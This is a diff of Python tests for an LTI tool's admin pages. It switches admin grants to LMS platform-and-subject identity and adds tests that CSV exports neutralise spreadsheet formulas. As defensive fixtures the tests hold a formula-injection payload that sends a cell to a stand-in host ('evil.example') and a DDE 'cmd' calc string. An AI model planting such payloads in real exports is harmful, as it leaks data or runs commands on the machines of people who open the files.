@@ -29,7 +29,7 @@ def test_admin_pages_need_an_lms_admin_granted_program_access(app, client, platf
     browser, home = admin_home(app, platform, do_launch)
     refused = browser.get(home + "admin/")
     assert refused.status_code == 403 and "admins grant" in text(refused)
-    result = app.test_cli_runner().invoke(args=["admins", "grant", "--email", "ada@example.org"])
+    result = app.test_cli_runner().invoke(args=["admins", "grant", "--platform", platform.issuer, "--sub", "user-admin-1"])
     assert result.exit_code == 0, result.output
     assert browser.get(home + "admin/").status_code == 200
 
@@ -37,7 +37,7 @@ def test_admin_pages_need_an_lms_admin_granted_program_access(app, client, platf
 def test_admin_finds_a_person_adjusts_reverses_and_revokes(app, client, platform, do_launch, member_launch):
     member_launch(platform)
     browser, home = admin_home(app, platform, do_launch)
-    app.test_cli_runner().invoke(args=["admins", "grant", "--email", "ada@example.org"])
+    app.test_cli_runner().invoke(args=["admins", "grant", "--platform", platform.issuer, "--sub", "user-admin-1"])
     found = text(browser.get(home + "admin/?q=maria"))
     person_url = re.search(r'href="([^"]+/admin/people/\d+)">Maria Member', found).group(1)
     page = text(browser.get(person_url))
@@ -79,7 +79,7 @@ def test_admin_finds_a_person_adjusts_reverses_and_revokes(app, client, platform
 def test_admin_exports_progress_and_registrations_as_csv(app, client, platform, do_launch, member_launch):
     member_launch(platform)
     browser, home = admin_home(app, platform, do_launch)
-    app.test_cli_runner().invoke(args=["admins", "grant", "--email", "ada@example.org"])
+    app.test_cli_runner().invoke(args=["admins", "grant", "--platform", platform.issuer, "--sub", "user-admin-1"])
     progress = browser.get(home + "admin/export/progress.csv")
     assert progress.headers["Content-Type"].startswith("text/csv")
     rows = list(csv.DictReader(io.StringIO(text(progress))))
@@ -96,7 +96,7 @@ def test_admin_merges_two_people(app, make_platform, do_launch, member_launch):
     member_launch(canvas, browser=app.test_client())
     member_launch(moodle, browser=app.test_client())
     browser, home = admin_home(app, moodle, do_launch)
-    app.test_cli_runner().invoke(args=["admins", "grant", "--email", "ada@example.org"])
+    app.test_cli_runner().invoke(args=["admins", "grant", "--platform", moodle.issuer, "--sub", "user-admin-1"])
     with app.app_context():
         ids = db.session.scalars(sa.select(Person.id).where(Person.name == "Maria Member").order_by(Person.id)).all()
     page = text(browser.get(f"{home}admin/people/{ids[0]}"))
@@ -107,3 +107,34 @@ def test_admin_merges_two_people(app, make_platform, do_launch, member_launch):
     with app.app_context():
         assert db.session.get(Person, ids[1]) is None
         assert len(db.session.get(Person, ids[0]).accounts) == 2
+
+
+def grant(app, platform, user_sub="user-admin-1"):
+    """Grant program-admin access by LMS identity (platform issuer + sub), as the operator would."""
+    result = app.test_cli_runner().invoke(args=["admins", "grant", "--platform", platform.issuer, "--sub", user_sub])
+    assert result.exit_code == 0, result.output
+
+
+def test_exports_neutralise_spreadsheet_formulas(app, client, platform, do_launch, member_launch):
+    member_launch(platform, name='=HYPERLINK("http://evil.example/?x="&A1,"Click")', local_association="@SUM(1+1)",
+                  email="maria@example.org")
+    browser, home = admin_home(app, platform, do_launch)
+    grant(app, platform)
+    progress = list(csv.reader(io.StringIO(text(browser.get(home + "admin/export/progress.csv")))))
+    registrations = list(csv.reader(io.StringIO(text(browser.get(home + "admin/export/registrations.csv")))))
+    cells = [cell for row in progress + registrations for cell in row]
+    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")" in cells
+    assert "'@SUM(1+1)" in cells
+    # No cell a spreadsheet would run: nothing starts with a formula character unless it is a plain number.
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not
+                                                                             re.fullmatch(r"-\d+(\.\d+)?", c))]
+
+
+def test_spreadsheet_safe_cells():
+    from lti_tool.services.exports import spreadsheet_safe
+
+    for formula in ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "-", "="]:
+        assert spreadsheet_safe(formula) == "'" + formula
+    for plain in ["Maria Member", "-6.00", "3", "+4", "2026-11-28T10:00:00", "", "a=b"]:
+        assert spreadsheet_safe(plain) == plain
+    assert spreadsheet_safe(None) == ""
